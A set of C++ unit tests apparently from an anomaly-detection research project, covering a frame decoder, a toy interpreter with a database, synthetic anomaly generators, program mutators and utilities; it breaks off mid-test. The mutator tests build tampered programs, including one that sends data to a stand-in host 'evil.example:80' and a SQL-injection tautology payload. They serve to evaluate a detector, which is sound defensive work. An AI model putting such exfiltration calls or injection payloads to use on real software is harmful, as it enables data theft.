    EncodeEventFrame("tenant", "session-" + std::to_string(i), MakeEvent(i),
                     &wire);
  }
  EncodeEndFrame("tenant", "session-0", &wire);

  util::Rng rng(0xBEEF);
  for (size_t offset = 0; offset < wire.size(); ++offset) {
    std::string mutated = wire;
    const char flip =
        static_cast<char>(1 + rng.UniformU64(255));  // guaranteed change
    mutated[offset] = static_cast<char>(mutated[offset] ^ flip);
    FrameDecoder decoder;
    decoder.Feed(mutated);
    size_t decoded = 0;
    while (true) {
      auto next = decoder.Next();
      if (!next.ok() || !next->has_value()) break;
      // Whatever still parses must carry well-formed fields.
      EXPECT_TRUE((*next)->type == FrameType::kEvent ||
                  (*next)->type == FrameType::kEndSession);
      ++decoded;
    }
    EXPECT_LE(decoded, 4u) << "offset " << offset;
  }
}

}  // namespace
}  // namespace adprom::runtime
