// Edge-case coverage of the interpreter's library surface: out-of-range
// DB accesses, exhausted inputs, argument validation, and provenance of
// the less-used builtins.

#include <gtest/gtest.h>

#include "prog/cfg.h"
#include "prog/program.h"
#include "runtime/collector.h"
#include "runtime/interpreter.h"

namespace adprom::runtime {
namespace {

struct RunResult {
  ProgramIo io;
  Trace trace;
  util::Status status;
};

RunResult RunWithDb(const std::string& source,
                    std::vector<std::string> inputs = {}) {
  RunResult out;
  auto program = prog::ParseProgram(source);
  if (!program.ok()) {
    out.status = program.status();
    return out;
  }
  auto cfgs = prog::BuildAllCfgs(*program);
  if (!cfgs.ok()) {
    out.status = cfgs.status();
    return out;
  }
  db::Database database;
  database.Execute("CREATE TABLE t (a INT, b TEXT)");
  database.Execute("INSERT INTO t VALUES (1, 'one')");
  database.Execute("INSERT INTO t VALUES (2, 'two')");
  Interpreter interpreter(*program, *cfgs, &database);
  LightCollector collector;
  interpreter.set_collector(&collector);
  auto result = interpreter.Run(std::move(inputs));
  out.status = result.ok() ? util::Status::Ok() : result.status();
  out.io = interpreter.io();
  out.trace = collector.TakeTrace();
  return out;
}

TEST(InterpreterEdgeTest, OutOfRangeDbAccessesReturnNull) {
  const RunResult r = RunWithDb(R"__(
fn main() {
  var res = db_query("SELECT * FROM t");
  print(is_null(db_getvalue(res, 99, 0)));
  print(is_null(db_getvalue(res, 0, 99)));
  print(db_nfields(res));
  var row = db_fetch_row(res);
  print(is_null(row_get(row, 99)));
}
)__");
  ASSERT_TRUE(r.status.ok()) << r.status.ToString();
  EXPECT_EQ(r.io.screen[0], "1");
  EXPECT_EQ(r.io.screen[1], "1");
  EXPECT_EQ(r.io.screen[2], "2");
  EXPECT_EQ(r.io.screen[3], "1");
}

TEST(InterpreterEdgeTest, FetchBeyondEndStaysNull) {
  const RunResult r = RunWithDb(R"__(
fn main() {
  var res = db_query("SELECT * FROM t WHERE a = 1");
  var row1 = db_fetch_row(res);
  var row2 = db_fetch_row(res);
  var row3 = db_fetch_row(res);
  print(is_null(row1), is_null(row2), is_null(row3));
}
)__");
  ASSERT_TRUE(r.status.ok());
  EXPECT_EQ(r.io.screen[0], "0 1 1");
}

TEST(InterpreterEdgeTest, InputIntOnExhaustionAndGarbage) {
  const RunResult r = RunWithDb(R"__(
fn main() {
  print(input_int());
  print(input_int());
  print(input_int());
}
)__",
                                {"42", "not-a-number"});
  ASSERT_TRUE(r.status.ok());
  EXPECT_EQ(r.io.screen[0], "42");
  EXPECT_EQ(r.io.screen[1], "0");  // unparsable -> 0
  EXPECT_EQ(r.io.screen[2], "0");  // exhausted -> 0
}

TEST(InterpreterEdgeTest, ArgumentCountValidation) {
  EXPECT_FALSE(RunWithDb("fn main() { db_getvalue(); }").status.ok());
  EXPECT_FALSE(RunWithDb("fn main() { scan(1); }").status.ok());
  EXPECT_FALSE(RunWithDb("fn main() { len(1, 2); }").status.ok());
  EXPECT_FALSE(
      RunWithDb("fn main() { write_file(7, \"x\"); }").status.ok());
  EXPECT_FALSE(RunWithDb("fn main() { db_ntuples(\"nope\"); }").status.ok());
  EXPECT_FALSE(
      RunWithDb("fn main() { row_get(\"not-a-row\", 0); }").status.ok());
}

TEST(InterpreterEdgeTest, ReplaceBuiltin) {
  const RunResult r = RunWithDb(R"__(
fn main() {
  print(replace("a-b-c", "-", "+"));
  print(replace("aaaa", "aa", "b"));
  print(replace("xyz", "", "!"));
  print(replace("abc", "z", "q"));
}
)__");
  ASSERT_TRUE(r.status.ok()) << r.status.ToString();
  EXPECT_EQ(r.io.screen[0], "a+b+c");
  EXPECT_EQ(r.io.screen[1], "bb");
  EXPECT_EQ(r.io.screen[2], "xyz");  // empty needle is a no-op
  EXPECT_EQ(r.io.screen[3], "abc");
}

TEST(InterpreterEdgeTest, CountProvenancePropagates) {
  // db_ntuples output is derived from the query result: printing it is a
  // TD output (the paper's Fig. 9 prints exactly such a count).
  const RunResult r = RunWithDb(R"__(
fn main() {
  var res = db_query("SELECT COUNT(*) FROM t");
  print(db_ntuples(res));
}
)__");
  ASSERT_TRUE(r.status.ok());
  EXPECT_TRUE(r.trace.back().td_output);
  EXPECT_EQ(r.trace.back().source_tables[0], "t");
}

TEST(InterpreterEdgeTest, DmlQueriesReturnResultHandles) {
  const RunResult r = RunWithDb(R"__(
fn main() {
  var ins = db_query("INSERT INTO t VALUES (3, 'three')");
  print(is_null(ins));
  var upd = db_query("UPDATE t SET b = 'x' WHERE a = 1");
  print(is_null(upd));
  var res = db_query("SELECT COUNT(*) FROM t");
  print(db_getvalue(res, 0, 0));
}
)__");
  ASSERT_TRUE(r.status.ok());
  EXPECT_EQ(r.io.screen[0], "0");
  EXPECT_EQ(r.io.screen[1], "0");
  EXPECT_EQ(r.io.screen[2], "3");
}

TEST(InterpreterEdgeTest, QuerySignatureOnEvents) {
  const RunResult r = RunWithDb(R"__(
fn main() {
  var res = db_query("SELECT * FROM t WHERE a = 1");
  print(db_ntuples(res));
}
)__");
  ASSERT_TRUE(r.status.ok());
  ASSERT_FALSE(r.trace.empty());
  EXPECT_EQ(r.trace[0].callee, "db_query");
  EXPECT_EQ(r.trace[0].query_signature, "SELECT * FROM t WHERE a = ?");
}

}  // namespace
}  // namespace adprom::runtime
