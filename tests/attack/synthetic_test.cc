#include "attack/synthetic.h"

#include <gtest/gtest.h>

#include <set>

namespace adprom::attack {
namespace {

runtime::CallEvent MakeEvent(const std::string& callee, int block) {
  runtime::CallEvent event;
  event.callee = callee;
  event.caller = "main";
  event.block_id = block;
  event.call_site_id = block;
  return event;
}

std::vector<runtime::Trace> NormalWindows() {
  // Three windows over an alphabet of 5 distinct events.
  std::vector<runtime::Trace> windows;
  for (int w = 0; w < 3; ++w) {
    runtime::Trace window;
    for (int i = 0; i < 15; ++i) {
      window.push_back(MakeEvent("call" + std::to_string((i + w) % 5),
                                 (i + w) % 5));
    }
    windows.push_back(std::move(window));
  }
  return windows;
}

std::set<std::string> Observables(const std::vector<runtime::Trace>& ws) {
  std::set<std::string> out;
  for (const auto& w : ws) {
    for (const auto& e : w) out.insert(e.Observable());
  }
  return out;
}

TEST(SyntheticTest, PoolDerivedFromWindows) {
  SyntheticAnomalyGenerator gen(NormalWindows(), 1);
  EXPECT_EQ(gen.pool_size(), 5u);
}

TEST(SyntheticTest, AS1ReplacesOnlyTheTail) {
  SyntheticAnomalyGenerator gen(NormalWindows(), 2);
  const auto legit = Observables(NormalWindows());
  for (int i = 0; i < 20; ++i) {
    const runtime::Trace window = gen.MakeAS1(5);
    ASSERT_EQ(window.size(), 15u);
    // Every symbol, including replacements, is from the legitimate set.
    for (const auto& event : window) {
      EXPECT_TRUE(legit.count(event.Observable()) > 0);
    }
  }
}

TEST(SyntheticTest, AS2InjectsUnknownCalls) {
  SyntheticAnomalyGenerator gen(NormalWindows(), 3);
  const auto legit = Observables(NormalWindows());
  const runtime::Trace window = gen.MakeAS2(3);
  size_t rogue = 0;
  for (const auto& event : window) {
    if (legit.count(event.Observable()) == 0) ++rogue;
  }
  EXPECT_GE(rogue, 1u);
  EXPECT_LE(rogue, 3u);
}

TEST(SyntheticTest, AS3InflatesOneCallFrequency) {
  SyntheticAnomalyGenerator gen(NormalWindows(), 4);
  const runtime::Trace window = gen.MakeAS3();
  ASSERT_EQ(window.size(), 15u);
  std::map<std::string, size_t> counts;
  for (const auto& event : window) ++counts[event.Observable()];
  size_t max_count = 0;
  for (const auto& [symbol, count] : counts) {
    max_count = std::max(max_count, count);
  }
  EXPECT_GE(max_count, 4u);  // one call repeated well beyond normal (3x)
}

TEST(SyntheticTest, BatchesAreDeterministicBySeed) {
  SyntheticAnomalyGenerator a(NormalWindows(), 99);
  SyntheticAnomalyGenerator b(NormalWindows(), 99);
  const auto batch_a = a.MakeBatch1(10);
  const auto batch_b = b.MakeBatch1(10);
  ASSERT_EQ(batch_a.size(), batch_b.size());
  for (size_t i = 0; i < batch_a.size(); ++i) {
    ASSERT_EQ(batch_a[i].size(), batch_b[i].size());
    for (size_t j = 0; j < batch_a[i].size(); ++j) {
      EXPECT_EQ(batch_a[i][j].Observable(), batch_b[i][j].Observable());
    }
  }
}

TEST(SyntheticTest, BatchSizes) {
  SyntheticAnomalyGenerator gen(NormalWindows(), 5);
  EXPECT_EQ(gen.MakeBatch1(7).size(), 7u);
  EXPECT_EQ(gen.MakeBatch2(8).size(), 8u);
  EXPECT_EQ(gen.MakeBatch3(9).size(), 9u);
}

}  // namespace
}  // namespace adprom::attack
