#include "attack/mutators.h"

#include <gtest/gtest.h>

#include "prog/cfg.h"
#include "prog/program.h"

namespace adprom::attack {
namespace {

constexpr const char* kApp = R"(
fn main() {
  var data = scan();
  if (data == "x") {
    print("branch A");
  } else {
    print("branch B");
  }
  report(data);
}
fn report(v) {
  var msg = "report: " + v;
  print(msg);
  var i = 0;
  while (i < 3) {
    log_work(i);
    i = i + 1;
  }
}
fn log_work(n) {
  print("working");
  return n;
}
)";

prog::Program Parse() {
  auto program = prog::ParseProgram(kApp);
  EXPECT_TRUE(program.ok()) << program.status().ToString();
  return std::move(program).value();
}

size_t CountCalls(const prog::Program& program, const std::string& fn,
                  const std::string& callee) {
  auto cfg = prog::BuildCfg(program, *program.FindFunction(fn));
  EXPECT_TRUE(cfg.ok());
  size_t count = 0;
  for (int id : cfg->CallNodes()) {
    if (cfg->node(id).call->callee == callee) ++count;
  }
  return count;
}

TEST(MutatorsTest, InsertAtEnd) {
  const prog::Program benign = Parse();
  InsertOutputSpec spec;
  spec.function = "report";
  spec.variable = "msg";
  auto tampered = InsertOutputStatement(benign, spec);
  ASSERT_TRUE(tampered.ok()) << tampered.status().ToString();
  EXPECT_EQ(CountCalls(*tampered, "report", "print"),
            CountCalls(benign, "report", "print") + 1);
  // The benign program is untouched.
  EXPECT_EQ(CountCalls(benign, "report", "print"), 1u);
}

TEST(MutatorsTest, InsertInElseBranch) {
  const prog::Program benign = Parse();
  InsertOutputSpec spec;
  spec.function = "main";
  spec.variable = "data";
  spec.where = InsertWhere::kElseOfFirstIf;
  auto tampered = InsertOutputStatement(benign, spec);
  ASSERT_TRUE(tampered.ok());
  EXPECT_EQ(CountCalls(*tampered, "main", "print"), 3u);
}

TEST(MutatorsTest, InsertInWhileBody) {
  const prog::Program benign = Parse();
  InsertOutputSpec spec;
  spec.function = "report";
  spec.variable = "msg";
  spec.output_call = "send_net";
  spec.channel_arg = "evil.example:80";
  spec.where = InsertWhere::kBodyOfFirstWhile;
  auto tampered = InsertOutputStatement(benign, spec);
  ASSERT_TRUE(tampered.ok());
  EXPECT_EQ(CountCalls(*tampered, "report", "send_net"), 1u);
}

TEST(MutatorsTest, InsertAfterIndex) {
  const prog::Program benign = Parse();
  InsertOutputSpec spec;
  spec.function = "report";
  spec.variable = "v";
  spec.where = InsertWhere::kAfterIndex;
  spec.index = 0;
  auto tampered = InsertOutputStatement(benign, spec);
  ASSERT_TRUE(tampered.ok());
  const auto& body = tampered->FindFunction("report")->body;
  EXPECT_EQ(body[1]->kind, prog::StmtKind::kExpr);
}

TEST(MutatorsTest, InsertValidatesTargets) {
  const prog::Program benign = Parse();
  InsertOutputSpec spec;
  spec.function = "no_such_fn";
  spec.variable = "x";
  EXPECT_FALSE(InsertOutputStatement(benign, spec).ok());

  spec.function = "log_work";
  spec.variable = "n";
  spec.where = InsertWhere::kElseOfFirstIf;  // log_work has no if
  EXPECT_FALSE(InsertOutputStatement(benign, spec).ok());

  // Inserting a reference to an out-of-scope variable fails finalization.
  spec.function = "main";
  spec.variable = "msg";
  spec.where = InsertWhere::kEnd;
  EXPECT_FALSE(InsertOutputStatement(benign, spec).ok());
}

TEST(MutatorsTest, ReplaceCallArgument) {
  const prog::Program benign = Parse();
  auto tampered = ReplaceCallArgument(benign, "log_work", "print",
                                      /*occurrence=*/0, /*arg_index=*/0,
                                      "n");
  ASSERT_TRUE(tampered.ok()) << tampered.status().ToString();
  // Same number of calls — only the argument changed.
  EXPECT_EQ(CountCalls(*tampered, "log_work", "print"), 1u);
  const auto& body = tampered->FindFunction("log_work")->body;
  EXPECT_EQ(body[0]->expr->args[0]->kind, prog::ExprKind::kVar);
  EXPECT_EQ(body[0]->expr->args[0]->name, "n");
}

TEST(MutatorsTest, ReplaceCallArgumentValidates) {
  const prog::Program benign = Parse();
  EXPECT_FALSE(
      ReplaceCallArgument(benign, "main", "fwrite", 0, 0, "data").ok());
  EXPECT_FALSE(
      ReplaceCallArgument(benign, "main", "print", 9, 0, "data").ok());
  EXPECT_FALSE(
      ReplaceCallArgument(benign, "main", "print", 0, 5, "data").ok());
  // Undeclared replacement variable fails finalization.
  EXPECT_FALSE(
      ReplaceCallArgument(benign, "main", "print", 0, 0, "ghost").ok());
}

TEST(MutatorsTest, ModifyStringLiteral) {
  auto program = prog::ParseProgram(R"(
fn main() {
  var r = db_query("SELECT * FROM items WHERE ID = 10");
  print(r);
}
)");
  ASSERT_TRUE(program.ok());
  auto tampered =
      ModifyStringLiteral(*program, "main", "ID = 10", "ID >= 10");
  ASSERT_TRUE(tampered.ok());
  const auto& arg =
      tampered->FindFunction("main")->body[0]->expr->args[0];
  EXPECT_EQ(arg->str_value, "SELECT * FROM items WHERE ID >= 10");
  EXPECT_FALSE(
      ModifyStringLiteral(*program, "main", "no such fragment", "x").ok());
}

TEST(MutatorsTest, TautologyPayloadShape) {
  EXPECT_EQ(TautologyPayload(), "1' OR '1'='1");
}

TEST(MutatorsTest, MutatedProgramHasFreshCallSiteIds) {
  const prog::Program benign = Parse();
  InsertOutputSpec spec;
  spec.function = "report";
  spec.variable = "msg";
  auto tampered = InsertOutputStatement(benign, spec);
  ASSERT_TRUE(tampered.ok());
  EXPECT_EQ(tampered->num_call_sites(), benign.num_call_sites() + 1);
  EXPECT_TRUE(tampered->finalized());
}

}  // namespace
}  // namespace adprom::attack
