#include "util/matrix.h"

#include <gtest/gtest.h>

namespace adprom::util {
namespace {

TEST(MatrixTest, ConstructionAndAccess) {
  Matrix m(2, 3, 1.5);
  EXPECT_EQ(m.rows(), 2u);
  EXPECT_EQ(m.cols(), 3u);
  EXPECT_DOUBLE_EQ(m.At(1, 2), 1.5);
  m.At(0, 1) = 7.0;
  EXPECT_DOUBLE_EQ(m(0, 1), 7.0);
}

TEST(MatrixTest, FromRows) {
  Matrix m = Matrix::FromRows({{1, 2}, {3, 4}});
  EXPECT_DOUBLE_EQ(m.At(0, 0), 1);
  EXPECT_DOUBLE_EQ(m.At(1, 1), 4);
}

TEST(MatrixTest, Identity) {
  Matrix id = Matrix::Identity(3);
  for (size_t r = 0; r < 3; ++r) {
    for (size_t c = 0; c < 3; ++c) {
      EXPECT_DOUBLE_EQ(id.At(r, c), r == c ? 1.0 : 0.0);
    }
  }
}

TEST(MatrixTest, RowColSums) {
  Matrix m = Matrix::FromRows({{1, 2, 3}, {4, 5, 6}});
  EXPECT_DOUBLE_EQ(m.RowSum(0), 6);
  EXPECT_DOUBLE_EQ(m.RowSum(1), 15);
  EXPECT_DOUBLE_EQ(m.ColSum(0), 5);
  EXPECT_DOUBLE_EQ(m.ColSum(2), 9);
}

TEST(MatrixTest, RowAndColExtraction) {
  Matrix m = Matrix::FromRows({{1, 2}, {3, 4}});
  EXPECT_EQ(m.Row(1), (std::vector<double>{3, 4}));
  EXPECT_EQ(m.Col(0), (std::vector<double>{1, 3}));
}

TEST(MatrixTest, Transpose) {
  Matrix m = Matrix::FromRows({{1, 2, 3}, {4, 5, 6}});
  Matrix t = m.Transpose();
  EXPECT_EQ(t.rows(), 3u);
  EXPECT_EQ(t.cols(), 2u);
  EXPECT_DOUBLE_EQ(t.At(2, 1), 6);
}

TEST(MatrixTest, Multiply) {
  Matrix a = Matrix::FromRows({{1, 2}, {3, 4}});
  Matrix b = Matrix::FromRows({{5, 6}, {7, 8}});
  Matrix c = a.Multiply(b);
  EXPECT_DOUBLE_EQ(c.At(0, 0), 19);
  EXPECT_DOUBLE_EQ(c.At(0, 1), 22);
  EXPECT_DOUBLE_EQ(c.At(1, 0), 43);
  EXPECT_DOUBLE_EQ(c.At(1, 1), 50);
}

TEST(MatrixTest, MultiplyByIdentityIsNoop) {
  Matrix a = Matrix::FromRows({{1, 2}, {3, 4}});
  EXPECT_DOUBLE_EQ(a.Multiply(Matrix::Identity(2)).MaxAbsDiff(a), 0.0);
}

TEST(MatrixTest, NormalizeRows) {
  Matrix m = Matrix::FromRows({{1, 3}, {0, 0}});
  m.NormalizeRows();
  EXPECT_DOUBLE_EQ(m.At(0, 0), 0.25);
  EXPECT_DOUBLE_EQ(m.At(0, 1), 0.75);
  // Zero rows are left untouched rather than producing NaN.
  EXPECT_DOUBLE_EQ(m.At(1, 0), 0.0);
}

TEST(MatrixTest, MaxAbsDiff) {
  Matrix a = Matrix::FromRows({{1, 2}});
  Matrix b = Matrix::FromRows({{1.5, 1}});
  EXPECT_DOUBLE_EQ(a.MaxAbsDiff(b), 1.0);
}

TEST(MatrixTest, ToStringRendersValues) {
  Matrix m = Matrix::FromRows({{0.5}});
  EXPECT_EQ(m.ToString(2), "[0.50]\n");
}

}  // namespace
}  // namespace adprom::util
