#include "util/thread_pool.h"

#include <gtest/gtest.h>

#include <atomic>
#include <condition_variable>
#include <mutex>
#include <vector>

namespace adprom::util {
namespace {

TEST(ThreadPoolTest, ZeroWorkersClampedToOne) {
  ThreadPool pool(0);
  EXPECT_EQ(pool.num_workers(), 1u);
}

TEST(ThreadPoolTest, SubmitAndWaitRunsEveryTask) {
  ThreadPool pool(3);
  std::atomic<int> count{0};
  for (int i = 0; i < 50; ++i) {
    pool.Submit([&count] { count.fetch_add(1); });
  }
  pool.Wait();
  EXPECT_EQ(count.load(), 50);
}

TEST(ThreadPoolTest, WaitOnIdlePoolReturnsImmediately) {
  ThreadPool pool(2);
  pool.Wait();  // nothing submitted — must not hang
}

TEST(ThreadPoolTest, TasksRunConcurrently) {
  // Two tasks rendezvous: each blocks until both have started, which can
  // only happen if the pool really runs them on separate threads.
  ThreadPool pool(2);
  std::mutex mu;
  std::condition_variable cv;
  int started = 0;
  auto rendezvous = [&] {
    std::unique_lock<std::mutex> lock(mu);
    ++started;
    cv.notify_all();
    cv.wait(lock, [&] { return started == 2; });
  };
  pool.Submit(rendezvous);
  pool.Submit(rendezvous);
  pool.Wait();
  EXPECT_EQ(started, 2);
}

TEST(ResolveThreadCountTest, ZeroMeansHardwareConcurrency) {
  EXPECT_EQ(ResolveThreadCount(0), ThreadPool::DefaultConcurrency());
  EXPECT_GE(ResolveThreadCount(0), 1u);
}

TEST(ResolveThreadCountTest, ExplicitAndNegativeValues) {
  EXPECT_EQ(ResolveThreadCount(3), 3u);
  EXPECT_EQ(ResolveThreadCount(1), 1u);
  EXPECT_EQ(ResolveThreadCount(-4), 1u);
}

TEST(ParallelForTest, EmptyRangeIsANoOp) {
  ThreadPool pool(2);
  int calls = 0;
  ParallelFor(&pool, 0, [&](size_t) { ++calls; });
  ParallelFor(nullptr, 0, [&](size_t) { ++calls; });
  EXPECT_EQ(calls, 0);
}

TEST(ParallelForTest, SingleItem) {
  ThreadPool pool(4);
  std::vector<int> hits(1, 0);
  ParallelFor(&pool, 1, [&](size_t i) { ++hits[i]; });
  EXPECT_EQ(hits[0], 1);
}

TEST(ParallelForTest, NullPoolRunsInline) {
  std::vector<int> hits(10, 0);
  ParallelFor(nullptr, hits.size(), [&](size_t i) { ++hits[i]; });
  for (int h : hits) EXPECT_EQ(h, 1);
}

TEST(ParallelForTest, MoreItemsThanWorkersHitsEveryIndexOnce) {
  ThreadPool pool(4);
  constexpr size_t kCount = 1000;
  std::vector<std::atomic<int>> hits(kCount);
  ParallelFor(&pool, kCount, [&](size_t i) { hits[i].fetch_add(1); });
  for (size_t i = 0; i < kCount; ++i) {
    EXPECT_EQ(hits[i].load(), 1) << "index " << i;
  }
}

TEST(ParallelForTest, PoolIsReusableAcrossCalls) {
  ThreadPool pool(3);
  for (int round = 0; round < 20; ++round) {
    std::atomic<size_t> sum{0};
    ParallelFor(&pool, 37, [&](size_t i) { sum.fetch_add(i); });
    EXPECT_EQ(sum.load(), 37u * 36u / 2u);
  }
}

TEST(ParallelForTest, FewerItemsThanWorkers) {
  ThreadPool pool(8);
  std::vector<std::atomic<int>> hits(3);
  ParallelFor(&pool, 3, [&](size_t i) { hits[i].fetch_add(1); });
  for (size_t i = 0; i < hits.size(); ++i) EXPECT_EQ(hits[i].load(), 1);
}

}  // namespace
}  // namespace adprom::util
