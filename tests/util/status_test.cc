#include "util/status.h"

#include <gtest/gtest.h>

namespace adprom::util {
namespace {

TEST(StatusTest, DefaultIsOk) {
  Status s;
  EXPECT_TRUE(s.ok());
  EXPECT_EQ(s.code(), StatusCode::kOk);
  EXPECT_EQ(s.ToString(), "OK");
}

TEST(StatusTest, ErrorCarriesCodeAndMessage) {
  Status s = Status::NotFound("missing table");
  EXPECT_FALSE(s.ok());
  EXPECT_EQ(s.code(), StatusCode::kNotFound);
  EXPECT_EQ(s.message(), "missing table");
  EXPECT_EQ(s.ToString(), "NotFound: missing table");
}

TEST(StatusTest, AllCodesHaveNames) {
  EXPECT_STREQ(StatusCodeName(StatusCode::kOk), "OK");
  EXPECT_STREQ(StatusCodeName(StatusCode::kInvalidArgument),
               "InvalidArgument");
  EXPECT_STREQ(StatusCodeName(StatusCode::kParseError), "ParseError");
  EXPECT_STREQ(StatusCodeName(StatusCode::kInternal), "Internal");
  EXPECT_STREQ(StatusCodeName(StatusCode::kUnimplemented), "Unimplemented");
  EXPECT_STREQ(StatusCodeName(StatusCode::kFailedPrecondition),
               "FailedPrecondition");
  EXPECT_STREQ(StatusCodeName(StatusCode::kOutOfRange), "OutOfRange");
  EXPECT_STREQ(StatusCodeName(StatusCode::kAlreadyExists), "AlreadyExists");
}

TEST(ResultTest, HoldsValue) {
  Result<int> r(42);
  ASSERT_TRUE(r.ok());
  EXPECT_EQ(r.value(), 42);
  EXPECT_EQ(*r, 42);
}

TEST(ResultTest, HoldsError) {
  Result<int> r(Status::InvalidArgument("bad"));
  EXPECT_FALSE(r.ok());
  EXPECT_EQ(r.status().code(), StatusCode::kInvalidArgument);
}

TEST(ResultTest, MoveOutValue) {
  Result<std::string> r(std::string("hello"));
  std::string v = std::move(r).value();
  EXPECT_EQ(v, "hello");
}

Result<int> Half(int x) {
  if (x % 2 != 0) return Status::InvalidArgument("odd");
  return x / 2;
}

Result<int> Quarter(int x) {
  ADPROM_ASSIGN_OR_RETURN(int h, Half(x));
  return Half(h);
}

TEST(ResultTest, AssignOrReturnPropagates) {
  EXPECT_EQ(Quarter(8).value(), 2);
  EXPECT_FALSE(Quarter(6).ok());  // 6/2 = 3, odd
  EXPECT_FALSE(Quarter(5).ok());
}

Status FailIfNegative(int x) {
  if (x < 0) return Status::OutOfRange("negative");
  return Status::Ok();
}

Status CheckBoth(int a, int b) {
  ADPROM_RETURN_IF_ERROR(FailIfNegative(a));
  ADPROM_RETURN_IF_ERROR(FailIfNegative(b));
  return Status::Ok();
}

TEST(ResultTest, ReturnIfErrorPropagates) {
  EXPECT_TRUE(CheckBoth(1, 2).ok());
  EXPECT_FALSE(CheckBoth(-1, 2).ok());
  EXPECT_FALSE(CheckBoth(1, -2).ok());
}

}  // namespace
}  // namespace adprom::util
