#include "util/strings.h"

#include <gtest/gtest.h>

namespace adprom::util {
namespace {

TEST(StringsTest, SplitKeepsEmptyFields) {
  EXPECT_EQ(Split("a,b,,c", ','),
            (std::vector<std::string>{"a", "b", "", "c"}));
  EXPECT_EQ(Split("", ','), (std::vector<std::string>{""}));
  EXPECT_EQ(Split(",", ','), (std::vector<std::string>{"", ""}));
}

TEST(StringsTest, SplitWhitespaceDropsEmpties) {
  EXPECT_EQ(SplitWhitespace("  a \t b\nc  "),
            (std::vector<std::string>{"a", "b", "c"}));
  EXPECT_TRUE(SplitWhitespace("   ").empty());
}

TEST(StringsTest, Join) {
  EXPECT_EQ(Join({"a", "b", "c"}, ", "), "a, b, c");
  EXPECT_EQ(Join({}, ","), "");
  EXPECT_EQ(Join({"only"}, ","), "only");
}

TEST(StringsTest, Trim) {
  EXPECT_EQ(Trim("  hi  "), "hi");
  EXPECT_EQ(Trim("hi"), "hi");
  EXPECT_EQ(Trim("   "), "");
  EXPECT_EQ(Trim(""), "");
}

TEST(StringsTest, StartsEndsWith) {
  EXPECT_TRUE(StartsWith("print_Q6", "print_Q"));
  EXPECT_FALSE(StartsWith("print", "print_Q"));
  EXPECT_TRUE(EndsWith("trace.log", ".log"));
  EXPECT_FALSE(EndsWith("log", ".log"));
}

TEST(StringsTest, EqualsIgnoreCase) {
  EXPECT_TRUE(EqualsIgnoreCase("SELECT", "select"));
  EXPECT_TRUE(EqualsIgnoreCase("", ""));
  EXPECT_FALSE(EqualsIgnoreCase("sel", "select"));
}

TEST(StringsTest, CaseConversion) {
  EXPECT_EQ(ToUpper("select *"), "SELECT *");
  EXPECT_EQ(ToLower("FROM Items"), "from items");
}

TEST(StringsTest, StrFormat) {
  EXPECT_EQ(StrFormat("%d-%s", 42, "x"), "42-x");
  EXPECT_EQ(StrFormat("%.2f", 1.005), "1.00");
  EXPECT_EQ(StrFormat("empty"), "empty");
}

}  // namespace
}  // namespace adprom::util
