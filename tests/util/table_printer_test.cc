#include "util/table_printer.h"

#include <gtest/gtest.h>

namespace adprom::util {
namespace {

TEST(TablePrinterTest, AlignsColumns) {
  TablePrinter printer({"name", "value"});
  printer.AddRow(std::vector<std::string>{"x", "1"});
  printer.AddRow(std::vector<std::string>{"longer", "22"});
  const std::string out = printer.ToString();
  EXPECT_NE(out.find("| name   | value |"), std::string::npos);
  EXPECT_NE(out.find("| longer | 22    |"), std::string::npos);
  // Separator row present.
  EXPECT_NE(out.find("|--------|-------|"), std::string::npos);
}

TEST(TablePrinterTest, NumericRowFormatting) {
  TablePrinter printer({"a", "b"});
  printer.AddRow(std::vector<double>{0.5, 0.25}, 2);
  EXPECT_NE(printer.ToString().find("0.50"), std::string::npos);
  EXPECT_NE(printer.ToString().find("0.25"), std::string::npos);
}

TEST(TablePrinterTest, HeaderOnly) {
  TablePrinter printer(std::vector<std::string>{"only"});
  const std::string out = printer.ToString();
  EXPECT_NE(out.find("| only |"), std::string::npos);
}

}  // namespace
}  // namespace adprom::util
