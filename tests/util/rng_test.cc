#include "util/rng.h"

#include <gtest/gtest.h>

#include <map>
#include <set>

namespace adprom::util {
namespace {

TEST(RngTest, DeterministicAcrossInstances) {
  Rng a(123);
  Rng b(123);
  for (int i = 0; i < 100; ++i) {
    EXPECT_EQ(a.NextU64(), b.NextU64());
  }
}

TEST(RngTest, DifferentSeedsDiffer) {
  Rng a(1);
  Rng b(2);
  int same = 0;
  for (int i = 0; i < 64; ++i) {
    if (a.NextU64() == b.NextU64()) ++same;
  }
  EXPECT_LT(same, 2);
}

TEST(RngTest, UniformU64Bounds) {
  Rng rng(7);
  for (int i = 0; i < 1000; ++i) {
    EXPECT_LT(rng.UniformU64(10), 10u);
  }
}

TEST(RngTest, UniformIntInclusiveRange) {
  Rng rng(7);
  std::set<int64_t> seen;
  for (int i = 0; i < 2000; ++i) {
    const int64_t v = rng.UniformInt(-3, 3);
    EXPECT_GE(v, -3);
    EXPECT_LE(v, 3);
    seen.insert(v);
  }
  EXPECT_EQ(seen.size(), 7u);  // all values hit
}

TEST(RngTest, UniformDoubleInUnitInterval) {
  Rng rng(9);
  for (int i = 0; i < 1000; ++i) {
    const double v = rng.UniformDouble();
    EXPECT_GE(v, 0.0);
    EXPECT_LT(v, 1.0);
  }
}

TEST(RngTest, GaussianRoughMoments) {
  Rng rng(11);
  double sum = 0.0;
  double sq = 0.0;
  const int n = 20000;
  for (int i = 0; i < n; ++i) {
    const double v = rng.Gaussian();
    sum += v;
    sq += v * v;
  }
  const double mean = sum / n;
  const double var = sq / n - mean * mean;
  EXPECT_NEAR(mean, 0.0, 0.05);
  EXPECT_NEAR(var, 1.0, 0.1);
}

TEST(RngTest, BernoulliEdges) {
  Rng rng(13);
  EXPECT_FALSE(rng.Bernoulli(0.0));
  EXPECT_TRUE(rng.Bernoulli(1.0));
  int hits = 0;
  for (int i = 0; i < 10000; ++i) {
    if (rng.Bernoulli(0.25)) ++hits;
  }
  EXPECT_NEAR(hits / 10000.0, 0.25, 0.03);
}

TEST(RngTest, WeightedIndexFollowsWeights) {
  Rng rng(17);
  std::map<size_t, int> counts;
  const std::vector<double> weights = {1.0, 3.0, 0.0, 6.0};
  for (int i = 0; i < 20000; ++i) {
    ++counts[rng.WeightedIndex(weights)];
  }
  EXPECT_EQ(counts[2], 0);  // zero weight never sampled
  EXPECT_NEAR(counts[0] / 20000.0, 0.1, 0.02);
  EXPECT_NEAR(counts[1] / 20000.0, 0.3, 0.03);
  EXPECT_NEAR(counts[3] / 20000.0, 0.6, 0.03);
}

TEST(RngTest, PermutationIsAPermutation) {
  Rng rng(19);
  const std::vector<size_t> perm = rng.Permutation(50);
